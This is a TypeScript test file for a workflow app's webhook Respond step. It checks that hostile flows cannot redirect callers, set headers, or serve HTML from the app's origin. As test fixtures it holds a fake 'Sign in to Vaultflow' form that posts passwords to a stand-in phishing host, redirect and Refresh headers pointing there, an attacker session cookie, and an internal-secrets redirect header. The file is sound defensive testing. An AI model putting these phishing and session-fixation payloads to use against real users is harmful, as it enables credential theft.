// Issue 13, item 4, played by a hostile flow: its Respond step tries to speak with
// Vaultflow's own origin, redirecting callers to a phishing page, setting cookies, or
// serving a fake sign-in form as HTML. The versions are written straight to the
// database, as an old published version (from before these rules) would be.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET, POST } from "@/app/api/webhooks/[token]/route";
import type { TFlowDocument, TFlowNode } from "@/lib/flows/document";
import { NODE_CONFIG_SCHEMAS } from "@/lib/flows/node-types";
import { getDb } from "@/lib/server/db";
import { startEmbeddedDriver, type TEmbeddedDriver } from "@/lib/server/runs/embedded/embedded-driver";
import { createExecutors } from "@/lib/server/runs/executors";
import { getRun } from "@/lib/server/runs/get-run";
import { listRunSecrets } from "@/lib/server/runs/run-secrets";
import { receiveWebhook } from "@/lib/server/webhooks/receive-webhook";
import { seedWebhookFlow } from "../support/seed-flow";
import { setupTestDatabase } from "../support/setup-test-database";

setupTestDatabase();
const meta = { ip: "192.0.2.78", userAgent: "vitest" };
let driver: TEmbeddedDriver;
beforeAll(() => {
  driver = startEmbeddedDriver({ executors: createExecutors(), secretsFor: listRunSecrets, pollMs: 50 });
});
afterAll(() => driver.stop());

const SIGN_IN_FORM = '<form action="https://phishing.example/steal" method="post"><h1>Sign in to Vaultflow</h1><input name="password" type="password"></form>';
const SANDBOX = "sandbox; default-src 'none'";

const node = (id: string, type: string, config: Record<string, unknown>): TFlowNode => ({ id, type, name: id, config, ui: { x: 0, y: 0 } });

async function hostileFlow(respond: { status: number; headers: { name: string; value: string }[]; body: string }) {
  const document: TFlowDocument = {
    schemaVersion: 1,
    nodes: [node("trigger", "trigger.webhook", { respondMode: "respond_step", responseTimeoutMs: 5000 }), node("answer", "step.respond", respond)],
    edges: [{ id: "e1", source: "trigger", target: "answer" }],
  };
  return seedWebhookFlow(document, { label: "responder", meta });
}

function call(token: string) {
  return receiveWebhook(
    { token, method: "POST", headers: new Headers({ "content-type": "application/json" }), body: Buffer.from("{}"), query: new URLSearchParams() },
    { pollMs: 20 },
  );
}

function serve(token: string, method: "GET" | "POST" = "POST") {
  const init: RequestInit = method === "POST" ? { method, headers: { "content-type": "application/json" }, body: "{}" } : { method };
  return (method === "POST" ? POST : GET)(new Request(`http://localhost/api/webhooks/${token}`, init), { params: Promise.resolve({ token }) });
}

async function stepError(userId: string, flowId: string): Promise<string> {
  const row = await getDb().flowRun.findFirstOrThrow({ where: { flowId }, select: { id: true } });
  for (let i = 0; i < 100; i += 1) {
    const run = await getRun(userId, row.id);
    if (run.status !== "QUEUED" && run.status !== "RUNNING") return JSON.stringify(run.steps.map((step) => step.record?.error ?? null));
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error("run did not finish");
}

describe("the Respond step cannot speak with the app's origin", () => {
  it("never redirects: a 302 with Location fails the step and the caller gets no 3xx and no Location", async () => {
    const flow = await hostileFlow({ status: 302, headers: [{ name: "Location", value: "https://phishing.example/sign-in" }], body: "" });
    const answer = await call(flow.token);
    expect(answer.status).toBe(502);
    expect(Object.keys(answer.headers ?? {}).map((name) => name.toLowerCase())).not.toContain("location");
    expect(JSON.stringify(answer)).not.toContain("phishing.example");
    expect(await stepError(flow.userId, flow.flowId)).toMatch(/cannot redirect/);
  });

  it("refuses Location with a 200 too, and Set-Cookie, Refresh and CORS headers", async () => {
    for (const [name, value] of [
      ["Location", "https://phishing.example/"],
      ["Set-Cookie", "next-auth.session-token=attacker; Path=/"],
      ["Refresh", "0; url=https://phishing.example/"],
      ["Access-Control-Allow-Origin", "*"],
      ["Content-Security-Policy", "default-src *"],
      ["X-Accel-Redirect", "/internal/secrets"],
    ] as const) {
      const flow = await hostileFlow({ status: 200, headers: [{ name, value }], body: "ok" });
      const response = await serve(flow.token);
      expect([name, response.status]).toEqual([name, 502]);
      expect(response.headers.get(name)).toBe(name === "Content-Security-Policy" ? SANDBOX : null);
      expect(await stepError(flow.userId, flow.flowId)).toContain(`The response header \\"${name}\\" cannot be set`);
    }
  });

  it("serves a fake sign-in form as a sandboxed attachment that is never sniffed", async () => {
    const flow = await hostileFlow({ status: 200, headers: [{ name: "Content-Type", value: "text/html; charset=utf-8" }], body: SIGN_IN_FORM });
    const response = await serve(flow.token);
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/html; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe("attachment");
    expect(response.headers.get("content-security-policy")).toBe(SANDBOX);
    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
    expect(await response.text()).toBe(SIGN_IN_FORM);
  });

  it("sends JSON and plain text inline, still sandboxed and nosniff, and the same on every other answer", async () => {
    const json = await hostileFlow({ status: 201, headers: [{ name: "X-Custom", value: "yes" }], body: '{"ok":true}' });
    const jsonResponse = await serve(json.token);
    const text = await hostileFlow({ status: 200, headers: [{ name: "content-type", value: "text/plain" }], body: "hi" });
    const textResponse = await serve(text.token);
    const notFound = await serve("A".repeat(43));
    const wrongMethod = await serve(json.token, "GET");
    expect([jsonResponse.status, textResponse.status, notFound.status, wrongMethod.status]).toEqual([201, 200, 404, 405]);
    expect(jsonResponse.headers.get("x-custom")).toBe("yes");
    for (const response of [jsonResponse, textResponse, notFound, wrongMethod]) {
      expect(response.headers.get("content-security-policy")).toBe(SANDBOX);
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      expect(response.headers.get("content-disposition")).toBeNull();
    }
  });

  it("marks a 3xx status a validation problem in the editor", () => {
    const result = NODE_CONFIG_SCHEMAS["step.respond"].safeParse({ status: 302 });
    expect(result.success).toBe(false);
    expect(result.error?.issues[0]?.message).toMatch(/cannot redirect/);
    expect(NODE_CONFIG_SCHEMAS["step.respond"].safeParse({ status: 404 }).success).toBe(true);
  });
});
